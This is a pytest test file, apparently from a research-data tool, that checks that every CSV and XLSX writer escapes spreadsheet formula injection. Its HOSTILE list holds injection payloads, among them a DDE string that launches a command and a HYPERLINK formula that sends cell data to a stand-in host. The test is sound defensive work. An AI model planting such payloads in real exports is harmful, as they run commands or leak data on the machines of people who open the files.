"""Whatever stands in a text, no CSV or XLSX file that we write runs it as a formula."""

import csv
import importlib.util
import io
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[1]
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
)
WRITES = re.compile(r"csv\.(?:writer|DictWriter)|\bWorkbook\(|\.to_csv\(|\.to_excel\(")


def comparison():
    from ctrp_research.findings.comparison import Cell, Comparison, Row, Rule

    cells = (Cell(6, 9, None), Cell(6, 9, None))
    rows = tuple(Row(text, text, None, 0, cells) for text in HOSTILE)
    return Comparison(HOSTILE[0], (HOSTILE[0], "all"), rows, Rule(), HOSTILE[1], "0" * 64, HOSTILE)


def units():
    from anonymise.residual import Unit

    return [Unit(f"t:{number}", "en", text) for number, text in enumerate(HOSTILE)]


def write_comparison(path: Path) -> None:
    from ctrp_research.findings.tables import write_csv
    from ctrp_research.findings.workbook import write_xlsx

    (write_csv if path.suffix == ".csv" else write_xlsx)(comparison(), path)


def write_sample(path: Path) -> None:
    from ctrp_research.transcripts.sample_sheet import write_sample as write

    write(units(), path, turns={"en": len(HOSTILE)}, guide=HOSTILE)


def write_review(path: Path) -> None:
    from ctrp_research.review.desk import Desk
    from ctrp_research.review.sheet import export_sheet
    from ctrp_research.store.project import create
    from ctrp_research.transcripts.importing import find_files, import_files

    source = path.parent / "rs-01.txt"
    source.write_text(
        "".join(f"I: Ko?\nR: {text} Stefan Ilin iz Leskovca.\n" for text in HOSTILE),
        encoding="utf-8",
    )
    project = create(path.parent / "study", countries=("RS",))
    assert [r.status for r in import_files(project, find_files([source]), coder="ana")] == [
        "imported"
    ]
    export_sheet(Desk(project, coder="ana"), path, transcript=None, force=False)


def write_examples(path: Path) -> None:
    found = importlib.util.spec_from_file_location("made", ROOT / "examples" / "make.py")
    made = importlib.util.module_from_spec(found)
    found.loader.exec_module(made)
    turn = type("Turn", (), {"codes": [(text, text) for text in HOSTILE]})
    example = type(
        "Example",
        (),
        {
            "path": HOSTILE[0],
            "turns": [turn],
            "speakers": {text: {} for text in HOSTILE},
            "settings": {"country": HOSTILE[1], "method": HOSTILE[2]},
        },
    )
    made_of = made.codings if path.suffix == ".csv" else made.participants
    path.write_bytes(made_of([example]))


def write_agreement(path: Path) -> None:
    from ctrp_research.coding.agreement.intervals import Interval
    from ctrp_research.coding.agreement.measure import Agreement, Confusion, Line, Parted
    from ctrp_research.coding.agreement.workbook import write_xlsx

    lines = tuple(
        Line(text, text, 0.5, Interval(0.1, 0.9, 0), text, 0.9, 0.9, 0.5, 0.1, 10, 2, 2)
        for text in HOSTILE
    )
    confusions = tuple(Confusion(text, text, 1) for text in HOSTILE)
    parted = tuple(Parted(text, 1, 1, 0.5) for text in HOSTILE)
    made = Agreement("turn", HOSTILE, 1, 10, 10, 0, 100, 0, lines, lines[0], confusions, parted)
    write_xlsx(made, path)


def write_codebook(path: Path) -> None:
    from codebooks import Code, Codebook
    from codebooks.sheets import write_xlsx

    codes = tuple(
        Code(f"c{number}", text, definition=text, include=text, examples=(text,))
        for number, text in enumerate(HOSTILE)
    )
    path.write_bytes(write_xlsx(Codebook("x", HOSTILE[0], 1, codes, note=HOSTILE[1])))


def write_memos(path: Path) -> None:
    from ctrp_research.coding.memo_report import write_report
    from ctrp_research.coding.memos import MemoLine

    at = "2026-01-02T03:04:05"
    memos = [
        MemoLine("theory", number, text, text, text, text, 1, text, text, at)
        for number, text in enumerate(HOSTILE, start=1)
    ]
    write_report(memos, path, force=False)


def write_matrix(path: Path) -> None:
    from ctrp_research.coding.matrix import Case, Cell, Matrix, Quote
    from ctrp_research.coding.matrix_sheet import write_sheet

    cell = {text: Cell((Quote(text, text),), "x", text, 1, text, stale=True) for text in HOSTILE}
    cases = tuple(Case(text, text) for text in HOSTILE)
    codes = tuple((text, text) for text in HOSTILE)
    write_sheet(Matrix(cases, codes, {(a, a): cell[a] for a in HOSTILE}), path, force=False)


def write_analysis(path: Path) -> None:
    from ctrp_research.coding.analysis.cooccurrence import Pair
    from ctrp_research.coding.analysis.workbook import write_pairs

    write_pairs([Pair(text, text, 1, 1, 1, 1) for text in HOSTILE], path, force=False)


def write_saturation(path: Path) -> None:
    from ctrp_research.coding.analysis.saturation import Curve, Step
    from ctrp_research.coding.analysis.workbook import write_curves

    steps = tuple(Step(text, (text,), 1, 1.0, 1.0, 1.0) for text in HOSTILE)
    write_curves([Curve(text, steps, 1, 0.1, 0.2, text) for text in HOSTILE], path, force=False)


REFUSING = "ctrp_research/transcripts/rules.py"
"""It writes letters, numbers and roles, and nothing else."""
WRITERS = {
    "ctrp_research/findings/tables.py": (write_comparison, "a.csv"),
    "ctrp_research/findings/workbook.py": (write_comparison, "a.xlsx"),
    "ctrp_research/transcripts/sample_sheet.py": (write_sample, "a.csv"),
    "ctrp_research/transcripts/sample_sheet.py as a workbook": (write_sample, "a.xlsx"),
    "ctrp_research/review/sheet.py": (write_review, "a.xlsx"),
    "ctrp_research/coding/agreement/workbook.py": (write_agreement, "a.xlsx"),
    "ctrp_research/coding/memo_report.py": (write_memos, "a.xlsx"),
    "ctrp_research/coding/matrix_sheet.py": (write_matrix, "a.xlsx"),
    "ctrp_research/coding/analysis/workbook.py": (write_analysis, "a.xlsx"),
    "ctrp_research/coding/analysis/workbook.py as curves": (write_saturation, "a.xlsx"),
    "codebooks/sheets.py": (write_codebook, "a.xlsx"),
    "examples/make.py": (write_examples, "a.csv"),
    "examples/make.py as a workbook": (write_examples, "a.xlsx"),
}


@pytest.mark.parametrize("name", WRITERS)
def test_no_writer_lets_a_formula_through(name, tmp_path):
    write, file = WRITERS[name]
    path = tmp_path / file
    write(path)
    if path.suffix == ".csv":
        rows = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig")))
        fields = [field for row in rows for field in row]
        assert any("1+1" in field for field in fields)
        assert not [f for f in fields if f.lstrip().startswith(("=", "+", "-", "@", "＝"))]
        return
    with zipfile.ZipFile(path) as archive:
        parts = {entry: archive.read(entry).decode() for entry in archive.namelist()}
    sheets = [part for entry, part in parts.items() if "worksheets/" in entry]
    assert any("SUM(A1)" in part for part in parts.values())
    assert not [part for part in sheets if re.search(r"<f[ >]|t=\"e\"", part)]
    assert not [entry for entry in parts if "externalLink" in entry]


def test_every_writer_is_in_the_list():
    listed = subprocess.run(
        ["git", "ls-files", "*.py"], cwd=ROOT, capture_output=True, text=True, check=True
    )
    writing = {
        name
        for name in listed.stdout.split()
        if not name.startswith("tests/")
        and WRITES.search((ROOT / name).read_text(encoding="utf-8"))
    }
    assert writing == {name.split(" as ")[0] for name in WRITERS} | {REFUSING}


@pytest.mark.parametrize("text", HOSTILE)
def test_the_list_of_rules_takes_no_formula_for_a_label(text, project):
    from ctrp_research.errors import CtrpError
    from ctrp_research.transcripts.rules import FILE, Rule, save_rules

    with pytest.raises(CtrpError):
        save_rules(project, [Rule(text, "child")], force=True)
    assert not (project.root / FILE).exists()
